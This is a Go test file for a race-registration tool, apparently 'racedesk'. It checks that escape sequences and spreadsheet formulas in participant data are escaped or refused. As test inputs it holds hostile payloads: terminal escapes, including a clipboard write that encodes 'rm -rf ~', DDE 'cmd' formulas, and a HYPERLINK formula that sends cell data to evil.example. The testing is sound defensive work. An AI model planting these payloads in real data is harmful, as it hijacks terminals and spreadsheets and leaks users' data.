package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/racedesk/racedesk/model"
	"github.com/racedesk/racedesk/model/store"
)

// Issue 17: hostile text never reaches a terminal. These tests run the
// real binary, as the attack did.

// Sequences of the attack: clear the screen, set the window title, write
// the clipboard (OSC 52), and an 8-bit CSI.
const (
	escClear     = "\x1b[2J"
	escTitle     = "\x1b]0;PWNED\x07"
	escClipboard = "\x1b]52;c;cm0gLXJmIH4=\x07"
)

// runBin runs the binary and returns its exit status, stdout and stderr.
func runBin(t *testing.T, bin string, args ...string) (int, string, string) {
	t.Helper()
	cmd := exec.Command(bin, args...)
	cmd.Env = append(os.Environ(), "LANG=en_US.UTF-8")
	var out, errOut bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errOut
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return code, out.String(), errOut.String()
}

// assertTerminalSafe fails when printed text holds a control character
// other than line break, CR before it and tab — no escape sequence, no
// BEL, no NUL — or a C1 control.
func assertTerminalSafe(t *testing.T, what, s string) {
	t.Helper()
	for i, r := range s {
		switch {
		case r == '\n', r == '\t', r == '\r' && strings.HasPrefix(s[i:], "\r\n"):
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f:
			t.Errorf("%s carries control character U+%04X at byte %d: %q", what, r, i, s)
			return
		}
	}
}

// Item 1: the import summary echoed a rejected row's last name raw — the
// organizer's screen was cleared and the clipboard overwritten.
func TestImportSummaryShowsHostileTextHarmlessly(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	bin := buildBinary(t)
	db := filepath.Join(t.TempDir(), "demo.db")
	if code, _, stderr := runBin(t, bin, "demo", "--db", db, "--runners", "0"); code != 0 {
		t.Fatalf("demo: %s", stderr)
	}
	csv := "Anmelde-ID;Nachname;Vorname;Geschlecht;Geburtsdatum;Strecke\r\n" +
		"WR-1;Krüger;Hannah;w;15.11.1977;10 km Hauptlauf\r\n" +
		"WR-2;\"Mü" + escClear + "ller" + escClipboard + "\";Jörg;m;12.03.1985;10 km Hauptlauf\r\n" +
		"WR-3;Nowak;Sophie\u009b2J;w;06.09.1960;10 km Hauptlauf\r\n"
	path := tempFile(t, "anmeldungen.csv", []byte(csv))
	code, out, stderr := runBin(t, bin, "import", path, "--db", db, "--lang", "en")
	if code != 1 {
		t.Fatalf("import: exit %d, want 1 (rows rejected)\n%s\n%s", code, out, stderr)
	}
	assertTerminalSafe(t, "the import summary", out+stderr)
	if !strings.Contains(out, "^[[2J") || !strings.Contains(out, "^[]52;c;") {
		t.Errorf("the rejected line does not show what the row held:\n%s", out)
	}
	if !strings.Contains(out, "U+001B") {
		t.Errorf("the reason does not name the control character:\n%s", out)
	}
	// The JSON summary keeps the data, escaped.
	_, jout, _ := runBin(t, bin, "import", path, "--db", db, "--lang", "en", "--json", "--dry-run")
	assertTerminalSafe(t, "the JSON summary", jout)
	var j importJSON
	if err := json.Unmarshal([]byte(jout), &j); err != nil {
		t.Fatalf("JSON summary: %v\n%s", err, jout)
	}

	// A UTF-16 file without BOM reads as text full of NUL bytes: the
	// summary shows them, it does not send them.
	var u16 []byte
	for _, b := range []byte("Nachname;Vorname\r\nMüller;Jörg\r\n") {
		u16 = append(u16, b, 0)
	}
	code, out, stderr = runBin(t, bin, "import", tempFile(t, "utf16.csv", u16), "--db", db, "--lang", "en", "--dry-run")
	if code == 0 {
		t.Errorf("a UTF-16 file without BOM imported:\n%s", out)
	}
	assertTerminalSafe(t, "the summary of a UTF-16 file without BOM", out+stderr)
}

// Item 2: a desk name another desk synced was printed raw ("by
// Desk␛]0;PWNED␇"); the DSQ reason and the desk name were accepted on the
// command line without the checks names get.
func TestHostileDeskNameFromAPeerPrintsHarmlessly(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	bin := buildBinary(t)
	db := newEventDB(t)
	code, out, stderr := runBin(t, bin, "register", "--db", db, "--lang", "en", "--race", "10k", "--first", "Jörg", "--last", "Müller", "--born", "12.3.85", "--gender", "m", "--json")
	if code != 0 {
		t.Fatalf("register: %s %s", out, stderr)
	}
	var reg struct {
		ID string `json:"id"`
	}
	if err := json.Unmarshal([]byte(out), &reg); err != nil || reg.ID == "" {
		t.Fatalf("register --json: %v\n%s", err, out)
	}
	id := reg.ID

	// A hostile (or old) peer's check-in arrives through sync: the store
	// of a desk takes what the cloud sends.
	evil := "Desk" + escTitle + escClear + escClipboard
	s, err := store.Open(db, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	stamp := model.MakeHLC(time.Now().Add(time.Minute).UnixMilli(), 0)
	_, err = s.ApplySync(store.Ack{}, []store.Change{{Seq: 1, Device: "peer", DevSeq: 1, HLC: stamp, Desk: evil,
		Entity: store.EntityParticipant, ID: id, Op: store.OpUpdate, Fields: []model.FieldChange{
			{Field: model.FStatus, Value: string(model.CheckedIn)}, {Field: model.FCheckedInAt, Value: "2026-12-06T08:01:00Z"},
			{Field: model.FCheckedInDesk, Value: evil}}}}, 1, nil)
	s.Close()
	if err != nil {
		t.Fatal(err)
	}

	code, out, stderr = runBin(t, bin, "checkin", "--db", db, "--lang", "en", "--id", id)
	if code != 0 {
		t.Fatalf("checkin: exit %d\n%s\n%s", code, out, stderr)
	}
	assertTerminalSafe(t, "checkin's answer", out+stderr)
	if !strings.Contains(out, "Desk^[]0;PWNED^G") {
		t.Errorf("checkin does not show the desk name harmlessly:\n%s", out)
	}
	// Human and machine output alike.
	for _, args := range [][]string{{"list"}, {"list", "--json"}, {"export", "participants"}, {"export", "participants", "--excel=false"},
		{"export", "participants", "--format", "json"}, {"checkin", "--id", id, "--json"}} {
		code, out, stderr := runBin(t, bin, append(args, "--db", db, "--lang", "en")...)
		if code != 0 {
			t.Errorf("%v: exit %d %s", args, code, stderr)
		}
		assertTerminalSafe(t, strings.Join(args, " "), out+stderr)
	}
	// JSON keeps the data: the escape is escaped, not lost.
	_, out, _ = runBin(t, bin, "export", "participants", "--format", "json", "--db", db)
	if !strings.Contains(out, `Desk\u001b]0;PWNED\u0007`) {
		t.Errorf("the JSON export lost the stored value:\n%s", out)
	}
	var ps []map[string]any
	if err := json.Unmarshal([]byte(out), &ps); err != nil || len(ps) != 1 || ps[0]["checked_in_desk"] != evil {
		t.Errorf("the JSON export does not read back as stored: %v %v", err, ps)
	}
}

// Item 2: on the command line, a DSQ reason and a desk name get the
// checks names get.
func TestReasonAndDeskNameAreCheckedOnTheCommandLine(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	bin := buildBinary(t)
	db := newEventDB(t)
	if code, out, stderr := runBin(t, bin, "register", "--db", db, "--lang", "en", "--race", "10k", "--first", "Jörg", "--last", "Müller", "--born", "12.3.85", "--gender", "m", "--bib", "17"); code != 0 {
		t.Fatalf("register: %s %s", out, stderr)
	}
	code, out, stderr := runBin(t, bin, "finish", "--db", db, "--lang", "en", "--bib", "17", "--status", "dsq", "--reason", "cut the course"+escTitle)
	if code == 0 {
		t.Errorf("a DSQ reason with an escape sequence was recorded:\n%s", out)
	}
	assertTerminalSafe(t, "finish's answer", out+stderr)
	if !strings.Contains(stderr, "reason") || !strings.Contains(stderr, "U+001B") {
		t.Errorf("the refusal does not name the field and the character:\n%s", stderr)
	}
	// Invisible characters are removed from a reason, not refused.
	if code, out, stderr := runBin(t, bin, "finish", "--db", db, "--lang", "en", "--bib", "17", "--status", "dsq", "--reason", "cut\u00ad the\u202e course"); code != 0 {
		t.Fatalf("a reason with a soft hyphen: exit %d %s %s", code, out, stderr)
	}
	_, out, _ = runBin(t, bin, "results", "--db", db, "--lang", "en", "--race", "10k", "--json")
	if !strings.Contains(out, `"cut the course"`) {
		t.Errorf("the reason is not stored clean:\n%s", out)
	}

	code, out, stderr = runBin(t, bin, "list", "--db", db, "--lang", "en", "--desk", "Desk"+escTitle)
	if code == 0 {
		t.Errorf("a desk name with an escape sequence was taken:\n%s", out)
	}
	assertTerminalSafe(t, "the refusal of a desk name", out+stderr)
	if !strings.Contains(stderr, "desk name") {
		t.Errorf("the refusal does not name the field:\n%s", stderr)
	}
}

// Item 4: formulas from names, clubs and extra fields were written
// verbatim into the CSV Excel opens. The Excel export disarms them; plain
// CSV and JSON keep the data.
func TestExcelExportDisarmsFormulas(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	bin := buildBinary(t)
	db := newEventDB(t)
	first, club, phone := "=cmd|' /C calc'!A", `=HYPERLINK("http://evil.example/?"&A1;"Klick")`, "@SUM(1+1)*cmd|' /C calc'!A0"
	code, out, stderr := runBin(t, bin, "register", "--db", db, "--lang", "en", "--race", "10k", "--first", first, "--last", "-Müller",
		"--born", "12.3.85", "--gender", "m", "--club", club, "--phone", "+49 171 1234567", "--extra", "emergency_phone="+phone)
	if code != 0 {
		t.Fatalf("register: exit %d %s %s", code, out, stderr)
	}
	dir := t.TempDir()
	read := func(args ...string) []map[string]string {
		t.Helper()
		path := filepath.Join(dir, "out.csv")
		if code, out, stderr := runBin(t, bin, append([]string{"export", "participants", "--db", db, "-o", path}, args...)...); code != 0 {
			t.Fatalf("export %v: exit %d %s %s", args, code, out, stderr)
		}
		text, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(text), "\ufeff")))
		if !bytes.HasPrefix(text, []byte("\ufeff")) {
			r.Comma = ','
		} else {
			r.Comma = ';'
		}
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("read back %v: %v\n%s", args, err, text)
		}
		var rows []map[string]string
		for _, rec := range recs[1:] {
			m := map[string]string{}
			for i, h := range recs[0] {
				m[h] = rec[i]
			}
			rows = append(rows, m)
		}
		return rows
	}
	excel := read()
	if len(excel) != 1 {
		t.Fatalf("excel export: %v", excel)
	}
	for col, want := range map[string]string{"first": "'" + first, "last": "'-Müller", "club": "'" + club,
		"phone": "'+49 171 1234567", "x.emergency_phone": "'" + phone, "born": "1985-03-12"} {
		if got := excel[0][col]; got != want {
			t.Errorf("Excel CSV %s = %q, want %q", col, got, want)
		}
	}
	for col, v := range excel[0] {
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
			t.Errorf("Excel CSV %s = %q starts a formula", col, v)
		}
	}
	plain := read("--excel=false")
	for col, want := range map[string]string{"first": first, "last": "-Müller", "club": club, "x.emergency_phone": phone} {
		if got := plain[0][col]; got != want {
			t.Errorf("plain CSV %s = %q, want the value as stored %q", col, got, want)
		}
	}
	// The start list, an Excel CSV too.
	_, out, _ = runBin(t, bin, "export", "startlist", "--db", db, "--lang", "en")
	if !strings.Contains(out, "'=cmd") || strings.Contains(out, ";=") || strings.Contains(out, ";\"=") {
		t.Errorf("start list:\n%s", out)
	}
}

func TestExcelCellKeepsNumbersAndDisarmsFormulas(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "Müller": "Müller", "-": "-", "-5": "-5", "-0:00:05.3": "-0:00:05.3", "-1,50": "-1,50",
		"=1+1": "'=1+1", "+49 171": "'+49 171", "+5": "'+5", "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
		"-5-": "'-5-", "-1..2": "'-1..2", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "a=1": "a=1",
	} {
		if got := excelCell(in); got != want {
			t.Errorf("excelCell(%q) = %q, want %q", in, got, want)
		}
	}
}
